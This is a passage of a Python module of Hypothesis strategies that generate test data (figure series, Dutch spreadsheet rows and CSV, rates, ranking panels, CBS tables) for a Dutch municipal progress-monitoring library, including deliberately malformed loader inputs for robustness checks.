    Each figure with a value is the one before it times a factor between
    1/9.9 and 9.9; after a zero the series starts afresh (a ratio to zero
    says nothing), and so it does at a change of sign in EUR.
    """
    unit = draw(st.sampled_from(["report", "EUR"]))
    size = draw(st.integers(0, max_size))
    values: list[float | None] = []
    current = 0.0
    for _ in range(size):
        kind = draw(st.sampled_from(["step", "step", "step", "zero", "missing", "restart"]))
        if kind == "missing":
            values.append(None)
            continue
        if kind == "zero":
            current = 0.0
        elif current == 0:
            current = draw(st.floats(1.0, 1e4, allow_nan=False))
            if unit == "EUR" and draw(st.booleans()):
                current = -current
        elif kind == "restart" and unit == "EUR":
            current = (1.0 if current < 0 else -1.0) * draw(st.floats(1.0, 1e6, allow_nan=False))
        else:
            factor = draw(st.floats(1 / 9.9, 9.9, allow_nan=False))
            current = float(f"{current * factor:.6g}")
            if current == 0:
                current = 1.0
        values.append(current)
    return unit, values


# ---------------------------------------------------------------------------
# Figures in workbooks (issue 12, Excel)
# ---------------------------------------------------------------------------
#
# Rows of a figures sheet as write_xlsx writes them (real numbers, truth
# values, texts with decimal commas), and the CSV text a Dutch spreadsheet
# saves for the same rows, for the property that both hold the same figures.

#: The columns of a figures sheet, by their Dutch names.
FIGURE_COLUMNS = (
    "indicator",
    "periode",
    "waarde",
    "eenheid",
    "bron",
    "marge",
    "steekproef",
    "noot",
    "voorlopig",
)
_figure_words = st.text("abcdefghijklmnopqrstuvwxyzé0123456789 .,;-=\"'", max_size=20)
_figure_ids = st.text("abcdefghijklmnopqrstuvwxyz_-", min_size=1, max_size=12)
# Tenths, as figures are published; a whole number stays an int.
_figure_numbers = st.integers(0, 100_000) | st.integers(0, 1000).map(lambda k: k / 10)
_dutch_number_texts = st.integers(0, 99_999).map(lambda k: f"{k // 10},{k % 10}")


@st.composite
def figure_rows(draw: st.DrawFn) -> list[list[object]]:
    """One to eight rows of a figures sheet, one period each, cells of every type a sheet holds."""
    years = draw(st.lists(st.integers(1990, 2040), min_size=1, max_size=8, unique=True))
    rows: list[list[object]] = []
    for year in years:
        unit = draw(st.sampled_from(["report", "percent", "mark", ""]))
        period: object = draw(
            st.sampled_from([year, str(year), f"{year}-{draw(st.integers(1, 12)):02d}"])
        )
        if unit == "percent":
            value: object = draw(st.integers(0, 100) | st.integers(0, 1000).map(lambda k: k / 10))
        else:
            value = draw(_figure_numbers | _dutch_number_texts | st.sampled_from([None, "."]))
        margin = draw(st.none() | st.integers(0, 50).map(lambda k: k / 10))
        rows.append(
            [
                draw(_figure_ids),
                period,
                value,
                unit,
                draw(_figure_words),
                margin,
                draw(st.none() | st.integers(1, 20_000)),
                draw(_figure_words),
                draw(st.booleans() | st.sampled_from(["ja", "nee", None])),
            ]
        )
    return rows


def figure_csv(columns: tuple[str, ...] | list[str], rows: list[list[object]]) -> str:
    """The ``;``-separated text a Dutch spreadsheet saves for ``rows``: decimal commas, WAAR/ONWAAR."""
    import csv  # this section's own
    import io

    def shown(cell: object) -> str:
        if cell is None:
            return ""
        if isinstance(cell, bool):
            return "WAAR" if cell else "ONWAAR"
        if isinstance(cell, float):
            return repr(cell).replace(".", ",")
        return str(cell)

    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\n")
    writer.writerow(columns)
    writer.writerows([shown(cell) for cell in row] for row in rows)
    return out.getvalue()


@st.composite
def shares_with_one_below_one(draw: st.DrawFn, *, max_size: int = 7) -> list[float | None]:
    """Percentages of consecutive years, all above 1 % but one (above 0, below 1 %); gaps among them."""
    above = st.one_of(
        st.integers(11, 1000).map(lambda k: k / 10),
        st.floats(1.0, 100.0, exclude_min=True, allow_nan=False),
    )
    values: list[float | None] = draw(st.lists(st.none() | above, min_size=1, max_size=max_size))
    below = draw(
        st.one_of(
            st.integers(1, 99).map(lambda k: k / 100),
            st.floats(0.0, 1.0, exclude_min=True, exclude_max=True, allow_subnormal=False),
        )
    )
    values.insert(draw(st.integers(0, len(values))), below)
    return values


# ---------------------------------------------------------------------------
# Panels for assess_panel: chunked, lazy, dask and xarray
# ---------------------------------------------------------------------------


@st.composite
def panels(draw: st.DrawFn, max_rows: int = 12) -> dict[str, Any]:
    """Keyword arguments of ``assess_panel``: series of every kind, a target and direction per row.

    Rows mix series with gaps, all-NaN, constant and zero rows (from :func:`batches`);
    targets may be missing (NaN: judged by the growth rate), and directions unknown (0).
    """
    t, y = draw(batches(max_rows=max_rows))
    rows = y.shape[0]
    level = st.one_of(
        st.just(np.nan), st.floats(-100, 1000, allow_nan=False, allow_subnormal=False)
    )
    target = np.array(draw(st.lists(level, min_size=rows, max_size=rows)))
    direction = np.array(
        draw(st.lists(st.sampled_from([-1.0, 0.0, 1.0]), min_size=rows, max_size=rows))
    )
    deadline = draw(st.sampled_from([np.nan, 2025.5, 2040.0]))
    return {"t": t, "y": y, "target": target, "direction": direction, "deadline": deadline}


# ---------------------------------------------------------------------------
# Rates: units per 100 ... 100,000 of a population, as the tables write them
# ---------------------------------------------------------------------------

#: The scales of a rate, each as the tables write it: (number, spellings).
RATE_SCALES: dict[int, tuple[str, ...]] = {
    100: ("100", "honderd", "hundred"),
    1_000: ("1000", "1.000", "1,000", "1 000", "duizend", "thousand"),
    10_000: ("10000", "10.000", "10,000", "tienduizend", "ten thousand"),
    100_000: ("100000", "100.000", "100,000", "honderdduizend", "hundred thousand"),
}


@st.composite
def rate_texts(draw: st.DrawFn) -> tuple[str, str, str, int]:
    """``(text, counted, population, scale)``: a rate written as a table would write it.

    ``counted`` and ``population`` are the unit names the text means; the
    words are Dutch or English, singular or plural, in any case.
    """
    names = _pm.units.names()
    counted = draw(st.sampled_from([n for n, row in names.items() if row.kind == "event"]))
    population = draw(st.sampled_from(["inhabitant", "household", "dwelling", "pupil"]))
    scale = draw(st.sampled_from(sorted(RATE_SCALES)))

    def spelling(row: _pm.units.UnitNames) -> str:
        word = draw(st.sampled_from([row.dutch, row.dutch_plural, row.english, row.english_plural]))
        return draw(st.sampled_from([word, word.upper(), word.capitalize()]))

    number = draw(st.sampled_from(RATE_SCALES[scale]))
    text = f"{spelling(names[counted])} per {number} {spelling(names[population])}"
    return text, counted, population, scale


# ---------------------------------------------------------------------------
# Panels of many regions for progmon.ranking
# ---------------------------------------------------------------------------


@st.composite
def rank_panels(
    draw: st.DrawFn, max_regions: int = 12, max_indicators: int = 4
) -> tuple[np.ndarray, list[str], np.ndarray]:
    """A panel ``values[region, indicator, period]`` with NaNs and ties, directions and a group.

    Values are small whole numbers or halves, so that ties are common; a
    column may be all NaN, or hold one figure. Returns the values, one
    direction per indicator and a mask of the group's regions.
    """
    regions = draw(st.integers(1, max_regions))
    indicators = draw(st.integers(1, max_indicators))
    periods = draw(st.integers(1, 3))
    cells = regions * indicators * periods
    pool = draw(st.sampled_from([3, 6, 20]))
    numbers = draw(st.lists(st.integers(-pool, pool), min_size=cells, max_size=cells))
    holes = draw(st.lists(st.booleans(), min_size=cells, max_size=cells))
    values = np.array(numbers, dtype=float).reshape(regions, indicators, periods) / 2
    values[np.array(holes).reshape(values.shape) & draw(st.booleans())] = np.nan
    directions = draw(
        st.lists(
            st.sampled_from(["increase", "decrease"]), min_size=indicators, max_size=indicators
        )
    )
    mask = np.array(draw(st.lists(st.booleans(), min_size=regions, max_size=regions)))
    return values, directions, mask


# ---------------------------------------------------------------------------
# Comparisons with references (progmon.compare)
# ---------------------------------------------------------------------------


@st.composite
def comparison_cases(draw: st.DrawFn) -> dict[str, Any]:
    """A municipality's figure and a reference's, for one period, with or without margins.

    Figures are one-decimal numbers of a positive unit (crimes per 1,000
    inhabitants); margins, where drawn, are both known (the CBS rule) or
    both absent (the tolerance rule). Returns the keyword arguments of
    :func:`comparison_indicator`.
    """
    own = draw(st.integers(0, 2000)) / 10
    other = draw(st.integers(0, 2000)) / 10
    margins = draw(st.booleans())
    own_margin = draw(st.integers(0, 50)) / 10 if margins else None
    other_margin = draw(st.integers(0, 50)) / 10 if margins else None
    direction = draw(st.sampled_from(list(_pm.Direction)))
    return {
        "own": own,
        "other": other,
        "own_margin": own_margin,
        "other_margin": other_margin,
        "direction": direction,
    }


def comparison_indicator(
    *,
    own: float,
    other: float,
    own_margin: float | None,
    other_margin: float | None,
    direction: Any,
    unit: str = "crime per 1000 inhabitant",
    scale: float = 1.0,
) -> Any:
    """An indicator with one figure (2019) and one reference ("Nederland", 2019), in ``unit``.

    ``scale`` multiplies every figure and margin: the same figures in a unit
    ``scale`` times smaller.
    """

    def m(value: float, margin: float | None) -> Any:
        return _pm.Measurement(
            2019, value * scale, margin=None if margin is None else margin * scale
        )

    return _pm.Indicator(
        id="vergelijk",
        name="Vergelijk",
        unit=unit,
        direction=direction,
        measurements=[m(own, own_margin)],
        references=[_pm.Reference("Nederland", [m(other, other_margin)], kind="country")],
    )


# ---------------------------------------------------------------------------
# Figure tables as a file gives them, good and bad (the loader's fast path)
# ---------------------------------------------------------------------------

_file_numbers = st.one_of(
    st.integers(-5, 1000),
    st.floats(-10.0, 1e4, allow_nan=False),
    st.sampled_from([0.0, -0.0, 10.0, 100.0, 100.5, 1e308, 2**53, 2**53 + 1, 2**60, 10**400]),
    st.sampled_from([float("nan"), float("inf"), -float("inf"), True, False, "5", "5 %"]),
)

#: One figure's table in a programme file: mostly plain, sometimes anything the model refuses.
figure_tables = st.fixed_dictionaries(
    {
        "period": st.one_of(
            st.integers(1790, 2210),
            st.integers(2015, 2020),  # so that years come twice
            st.sampled_from(["2019", "2019-12", True, 0, 99999, 2019.0]),
        )
    },
    optional={
        "value": st.none() | _file_numbers,
        "margin": st.none() | _file_numbers,
        "sample_size": st.one_of(
            st.none(), st.integers(-1, 5000), st.sampled_from([True, 1.5, 10**400])
        ),
        "note": st.one_of(st.text(max_size=6), st.sampled_from(["\x1b[2J", "\ud800", 3])),
        "provisional": st.one_of(st.booleans(), st.sampled_from([0, 1, "ja"])),
        "source": st.sampled_from(
            [
                "CBS",
                "Politie jaarcijfers 2019",
                {"title": "Politie"},
                {"title": "Politie", "publisher": "Politie", "year": 2019},
                {"titel": "Politie"},
                {"title": 3},
                {"title": "P", "year": [2019]},
                "\x1b[2J",
                "",
                None,
            ]
        ),
        "extra": st.just(1),
    },
)

#: Units of the file's indicators, one of them unknown.
file_units = st.sampled_from(["report", "percent", "mark", "EUR", "dimensionless", "degC", "nope"])

#: An indicator's ``baseline`` key in a file (None: not given).
file_baselines = st.one_of(
    st.none(), st.integers(2014, 2021), st.sampled_from(["2019-12", "2018", 1700])
)


# ---------------------------------------------------------------------------
# CBS tables: a v3 table (a topic a column) and the same as v4 observations
# ---------------------------------------------------------------------------

_CBS_CELLS = st.one_of(
    st.integers(0, 5000),
    st.floats(0, 100, allow_nan=False).map(lambda x: round(x, 1)),
    st.none(),
    st.sampled_from(["x", "."]),
)


@st.composite
def cbs_tables(draw: st.DrawFn) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """A small CBS table as v3 rows and as the v4 observations of the same figures.

    Regions GM0001 (the programme's) and NL01, a few years, one to three
    topics (``Topic_1`` ...; in v4 the measures ``M1`` ...), cells a whole or
    decimal number, missing (None or ``.``) or secret (``x``). In v4 a
    missing cell is a ``Value`` of None with a ``ValueAttribute`` other than
    ``None``, a secret one ``Confidential``.
    """
    years = draw(st.lists(st.integers(2010, 2024), min_size=1, max_size=4, unique=True))
    topics = [f"Topic_{n}" for n in range(1, draw(st.integers(1, 3)) + 1)]
    wide: list[dict[str, Any]] = []
    for region in ("GM0001  ", "NL01    "):
        for year in years:
            row: dict[str, Any] = {"ID": len(wide), "RegioS": region, "Perioden": f"{year}JJ00"}
            row.update({topic: draw(_CBS_CELLS) for topic in topics})
            wide.append(row)
    observations: list[dict[str, Any]] = []
    for row in wide:
        for number, topic in enumerate(topics, start=1):
            cell = row[topic]
            missing = cell is None or isinstance(cell, str)
            attribute = "None" if not missing else ("Confidential" if cell == "x" else "Missing")
            observations.append(
                {
                    "Id": len(observations),
                    "Measure": f"M{number}",
                    "ValueAttribute": attribute,
                    "Value": None if missing else cell,
                    "RegioS": row["RegioS"].strip(),
                    "Perioden": row["Perioden"],
                }
            )
    draw(st.randoms()).shuffle(observations)  # v4 gives no order
    return wide, observations
